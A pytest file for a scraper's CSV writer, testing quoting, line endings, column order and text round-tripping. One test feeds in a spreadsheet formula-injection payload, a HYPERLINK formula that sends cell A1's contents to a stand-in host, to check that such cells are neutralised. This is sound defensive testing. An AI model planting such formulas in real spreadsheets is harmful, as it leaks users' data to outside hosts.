"""CSV: what a spreadsheet and a CSV reader make of it."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scrape.blocks import Image
from scrape.records import Article, Failure, Link, Removal
from scrape.writer.csv_format import csv_header
from scrape.writer.formats import header, render

ARTICLE = Article(
    url="https://a.example/x",
    title='Ferry "stops", again',
    authors=("Ann Lee", "Bo Ek"),
    tags=("sea",),
    body="First.\n\nSecond.",
    links=(Link("https://b.example/1", "one", internal=False), Link("https://b.example/2", "two", internal=False)),
    images=(Image("https://a.example/i.png"),),
    word_count=2,
    is_accessible_for_free=True,
    warnings=("paywalled", "truncated"),
    input={"id": 7, "note": "ü"},
)


def rows(*articles: Article, extras: tuple[str, ...] = ()) -> list[dict[str, str]]:
    text = header("csv", extras) + "".join(render(article, "csv", extras) for article in articles)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_lists_are_joined_and_the_rest_is_as_it_is() -> None:
    (row,) = rows(ARTICLE)
    assert {name: value for name, value in row.items() if value} == {
        "url": "https://a.example/x",
        "title": 'Ferry "stops", again',
        "authors": "Ann Lee; Bo Ek",
        "tags": "sea",
        "body": "First.\n\nSecond.",
        "links": "https://b.example/1\nhttps://b.example/2",
        "images": "https://a.example/i.png",
        "word_count": "2",
        "is_accessible_for_free": "true",
        "warnings": "paywalled; truncated",
        "input": '{"id": 7, "note": "ü"}',
    }


def test_a_failure_is_a_row() -> None:
    (row,) = rows(Article(url="https://a.example/", error=Failure("timed_out", "no answer: try again")))
    assert (row["error_type"], row["error_message"]) == ("timed_out", "no answer: try again")
    assert row["url"] == "https://a.example/"


def test_keys_asked_for_are_the_last_columns() -> None:
    article = Article(title="T", removed=(Removal("byline", "By J"),))
    (row,) = rows(article, extras=("markdown", "removed"))
    assert list(row)[-3:] == ["input", "markdown", "removed"]
    assert json.loads(row["removed"]) == [{"rule": "byline", "text": "By J"}]


def test_provenance_is_json() -> None:
    (row,) = rows(Article(title="T", provenance={"title": [{"from": "h1"}]}), extras=("provenance",))
    assert json.loads(row["provenance"]) == {"title": [{"from": "h1"}]}


def test_lines_end_as_rfc_4180_says() -> None:
    assert csv_header().endswith("\r\n")
    assert render(ARTICLE, "csv").endswith("\r\n")
    assert '"Ferry ""stops"", again"' in render(ARTICLE, "csv")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(start: str) -> None:
    text = f'{start}HYPERLINK("https://c.example/?x="&A1)'
    article = Article(title=text, body=text, authors=(text,), tags=(text,), sitename=text, error=Failure("x", text))
    (row,) = rows(article)
    for name in ("title", "body", "authors", "tags", "sitename", "error_message"):
        assert row[name] == f"'{text}"


@given(st.lists(st.text(), min_size=3, max_size=3))
def test_any_text_reads_back(texts: list[str]) -> None:
    title, body, author = texts
    (row,) = rows(Article(title=title, body=body, authors=(author,)))
    for name, text in (("title", title), ("body", body), ("authors", author)):
        cell = row[name]
        assert cell in {text, f"'{text}"}
        assert not cell.startswith(tuple("=+-@\t\r\n"))
